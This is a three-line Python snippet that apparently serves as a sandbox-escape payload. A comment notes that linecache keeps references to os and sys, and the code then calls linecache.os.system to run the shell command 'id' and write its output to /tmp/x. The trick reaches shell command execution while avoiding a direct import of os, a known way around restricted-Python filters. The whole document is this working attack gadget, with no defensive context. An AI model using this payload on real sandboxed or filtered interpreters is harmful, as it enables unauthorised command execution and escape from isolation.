# why: linecache keeps os and sys
import linecache
linecache.os.system("id > /tmp/x")
